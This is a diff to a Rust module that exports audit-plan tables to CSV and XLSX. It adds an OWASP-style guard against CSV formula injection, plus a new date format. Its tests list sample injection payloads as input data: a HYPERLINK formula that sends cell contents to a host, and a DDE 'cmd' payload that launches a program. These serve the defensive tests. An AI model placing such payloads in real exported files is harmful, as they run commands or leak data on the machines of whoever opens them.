@@ -3,6 +3,41 @@
 //! accents) and to XLSX (bold wrapped headers, column widths, dates as dates).
 use chrono::NaiveDate;
 use rust_xlsxwriter::{Format, FormatAlign, FormatBorder, Workbook, XlsxError};
+use std::borrow::Cow;
+
+/// Characters that make a spreadsheet read a CSV field as a formula (OWASP "CSV injection").
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// The one neutraliser of CSV text: a text field beginning with `=`, `+`, `-`, `@`, tab or
+/// carriage return gets a leading `'`, so Excel and LibreOffice show it as text instead of
+/// running it (OWASP's rule). Numbers and dates never pass here: they stay numbers.
+pub fn csv_text(text: &str) -> Cow<'_, str> {
+    if text.starts_with(FORMULA_STARTS) {
+        Cow::Owned(format!("'{text}"))
+    } else {
+        Cow::Borrowed(text)
+    }
+}
+
+/// Writes a record of text fields, each through [`csv_text`].
+fn text_record<'a, W: std::io::Write>(
+    w: &mut csv::Writer<W>,
+    fields: impl IntoIterator<Item = &'a str>,
+) -> Result<(), csv::Error> {
+    for field in fields {
+        w.write_field(csv_text(field).as_bytes())?;
+    }
+    w.write_record(None::<&[u8]>)
+}
+
+/// The reverse of [`csv_text`] for files read back (an exported CSV imports as it was written):
+/// drops the `'` before a formula character, as a spreadsheet does when it shows the cell.
+pub fn csv_text_read(text: &str) -> &str {
+    match text.strip_prefix('\'') {
+        Some(rest) if rest.starts_with(FORMULA_STARTS) => rest,
+        _ => text,
+    }
+}
 
 /// What a column holds, which decides how XLSX stores it.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -11,8 +46,11 @@ pub enum Kind {
     Text,
     /// A number.
     Number,
-    /// A date (stored as an Excel date, shown DD/MM/YYYY).
+    /// A date (stored as an Excel date, shown DD/MM/YYYY; `YYYY-MM-DD` in CSV).
     Date,
+    /// A date as official forms write it (SIRECI): `AAAA/MM/DD` in CSV, an Excel date shown
+    /// the same way in XLSX.
+    FormDate,
     /// A percentage 0–100.
     Percent,
 }
@@ -28,7 +66,8 @@ pub struct Column {
     pub kind: Kind,
 }
 
-const fn col(header: &'static str, width: f64, kind: Kind) -> Column {
+/// A column of a layout.
+pub const fn col(header: &'static str, width: f64, kind: Kind) -> Column {
     Column { header, width, kind }
 }
 
@@ -39,26 +78,6 @@ pub const TI_PL03: &[Column] = &[
     col("DISEÑO ALTERNATIVAS DE MEJORA", 60.0, Kind::Text),
     col("MEJORAS PARA IMPLEMENTAR (INCLUIR PLAZO DE LA IMPLEMENTACIÓN)", 60.0, Kind::Text),
     col("EVALUACIÓN DE LA EFICACIA DE LAS ACCIONES IMPLEMENTADAS", 30.0, Kind::Text),
-];
-
-/// Contraloría SIRECI F14.1 (plan de mejoramiento): one row per action × finding. A change of
-/// the official format is an edit of this table (and of the row builder that fills it).
-pub const SIRECI_F14_1: &[Column] = &[
-    col("CÓDIGO HALLAZGO", 14.0, Kind::Text),
-    col("DESCRIPCIÓN HALLAZGO", 45.0, Kind::Text),
-    col("CAUSA DEL HALLAZGO", 35.0, Kind::Text),
-    col("EFECTO DEL HALLAZGO", 35.0, Kind::Text),
-    col("ACCIÓN DE MEJORA", 40.0, Kind::Text),
-    col("PROPÓSITO (OBJETIVO)", 35.0, Kind::Text),
-    col("DESCRIPCIÓN DE LA ACTIVIDAD", 45.0, Kind::Text),
-    col("UNIDAD DE MEDIDA", 16.0, Kind::Text),
-    col("CANTIDAD", 10.0, Kind::Number),
-    col("FECHA DE INICIO", 13.0, Kind::Date),
-    col("FECHA DE TERMINACIÓN", 13.0, Kind::Date),
-    col("PLAZO EN SEMANAS", 10.0, Kind::Number),
-    col("AVANCE FÍSICO DE EJECUCIÓN", 12.0, Kind::Number),
-    col("PORCENTAJE DE AVANCE", 12.0, Kind::Percent),
-    col("OBSERVACIONES", 35.0, Kind::Text),
 ];
 
 /// A cell value.
@@ -85,12 +104,13 @@ impl Cell {
         }
     }
 
-    fn as_csv(&self) -> String {
+    fn as_csv(&self, kind: Kind) -> String {
         match self {
             Cell::Empty => String::new(),
-            Cell::Text(t) => t.clone(),
+            Cell::Text(t) => csv_text(t).into_owned(),
             Cell::Number(n) if n.fract() == 0.0 => format!("{n:.0}"),
             Cell::Number(n) => format!("{n:.2}"),
+            Cell::Date(d) if kind == Kind::FormDate => d.format("%Y/%m/%d").to_string(),
             Cell::Date(d) => d.format("%Y-%m-%d").to_string(),
         }
     }
@@ -117,19 +137,19 @@ impl Sheet {
         let mut out = Vec::from(&b"\xEF\xBB\xBF"[..]);
         {
             let mut w = csv::WriterBuilder::new().flexible(true).from_writer(&mut out);
-            w.write_record([self.title.as_str()])?;
+            text_record(&mut w, [self.title.as_str()])?;
             for (k, v) in &self.header_block {
-                w.write_record([k.as_str(), v.as_str()])?;
+                text_record(&mut w, [k.as_str(), v.as_str()])?;
             }
             w.write_record([""])?;
-            w.write_record(self.columns.iter().map(|c| c.header))?;
+            text_record(&mut w, self.columns.iter().map(|c| c.header))?;
             for row in &self.rows {
-                w.write_record(row.iter().map(Cell::as_csv))?;
+                w.write_record(row.iter().zip(self.columns).map(|(cell, column)| cell.as_csv(column.kind)))?;
             }
             if !self.footer_block.is_empty() {
                 w.write_record([""])?;
                 for (k, v) in &self.footer_block {
-                    w.write_record([k.as_str(), v.as_str()])?;
+                    text_record(&mut w, [k.as_str(), v.as_str()])?;
                 }
             }
             w.flush()?;
@@ -160,6 +180,8 @@ impl Sheet {
         let number = Format::new().set_align(FormatAlign::Top).set_border(FormatBorder::Thin);
         let date =
             Format::new().set_num_format("dd/mm/yyyy").set_align(FormatAlign::Top).set_border(FormatBorder::Thin);
+        let form_date =
+            Format::new().set_num_format("yyyy/mm/dd").set_align(FormatAlign::Top).set_border(FormatBorder::Thin);
         let percent = Format::new().set_num_format("0.0").set_align(FormatAlign::Top).set_border(FormatBorder::Thin);
         sheet.write_string_with_format(0, 0, &self.title, &bold)?;
         let mut r: u32 = 1;
@@ -183,6 +205,7 @@ impl Sheet {
                     Kind::Text => &text,
                     Kind::Number => &number,
                     Kind::Date => &date,
+                    Kind::FormDate => &form_date,
                     Kind::Percent => &percent,
                 };
                 match cell {
@@ -210,6 +233,25 @@ mod tests {
     use super::*;
     use calamine::{Data, Reader, Xlsx};
 
+    /// A fifteen-column layout with every kind of cell.
+    const LAYOUT: &[Column] = &[
+        col("CÓDIGO HALLAZGO", 14.0, Kind::Text),
+        col("DESCRIPCIÓN HALLAZGO", 45.0, Kind::Text),
+        col("CAUSA DEL HALLAZGO", 35.0, Kind::Text),
+        col("EFECTO DEL HALLAZGO", 35.0, Kind::Text),
+        col("ACCIÓN DE MEJORA", 40.0, Kind::Text),
+        col("PROPÓSITO (OBJETIVO)", 35.0, Kind::Text),
+        col("DESCRIPCIÓN DE LA ACTIVIDAD", 45.0, Kind::Text),
+        col("UNIDAD DE MEDIDA", 16.0, Kind::Text),
+        col("CANTIDAD", 10.0, Kind::Number),
+        col("FECHA DE INICIO", 13.0, Kind::Date),
+        col("FECHA DE TERMINACIÓN", 13.0, Kind::Date),
+        col("PLAZO EN SEMANAS", 10.0, Kind::Number),
+        col("AVANCE FÍSICO DE EJECUCIÓN", 12.0, Kind::Number),
+        col("PORCENTAJE DE AVANCE", 12.0, Kind::Percent),
+        col("OBSERVACIONES", 35.0, Kind::Text),
+    ];
+
     fn sample() -> Sheet {
         Sheet {
             title: "Plan de mejoramiento".into(),
@@ -217,7 +259,7 @@ mod tests {
                 ("Entidad".into(), "Concejo Municipal de Cartago".into()),
                 ("NIT".into(), "900215967-5".into()),
             ],
-            columns: SIRECI_F14_1,
+            columns: LAYOUT,
             rows: vec![vec![
                 Cell::text("H-01"),
                 Cell::text("Sin revisión de accesos"),
@@ -237,6 +279,36 @@ mod tests {
             ]],
             footer_block: vec![("Elaboró".into(), "Martha".into())],
         }
+    }
+
+    #[test]
+    fn csv_text_neutralises_formula_starts_and_reads_back() {
+        for (raw, safe) in [
+            ("=HYPERLINK(\"http://x/?\"&A1,\"ver\")", "'=HYPERLINK(\"http://x/?\"&A1,\"ver\")"),
+            ("+cmd|\" /C calc\"!A0", "'+cmd|\" /C calc\"!A0"),
+            ("-2+3", "'-2+3"),
+            ("@evil", "'@evil"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "'\r=1"),
+            ("Revisar accesos", "Revisar accesos"),
+            ("'ya", "'ya"),
+            ("", ""),
+        ] {
+            assert_eq!(csv_text(raw), safe);
+            assert_eq!(csv_text_read(&csv_text(raw)), raw);
+        }
+    }
+
+    #[test]
+    fn csv_text_cells_are_neutralised_and_numbers_are_not() {
+        let mut s = sample();
+        s.title = "=1+1".into();
+        s.rows[0][4] = Cell::text("@SUM(A1)");
+        s.rows[0][8] = Cell::Number(-4.0);
+        let text = String::from_utf8(s.to_csv().unwrap()[3..].to_vec()).unwrap();
+        assert!(text.starts_with("'=1+1\n"), "{text}");
+        assert!(text.contains(",'@SUM(A1),"), "{text}");
+        assert!(text.contains(",-4,"), "{text}");
     }
 
     #[test]
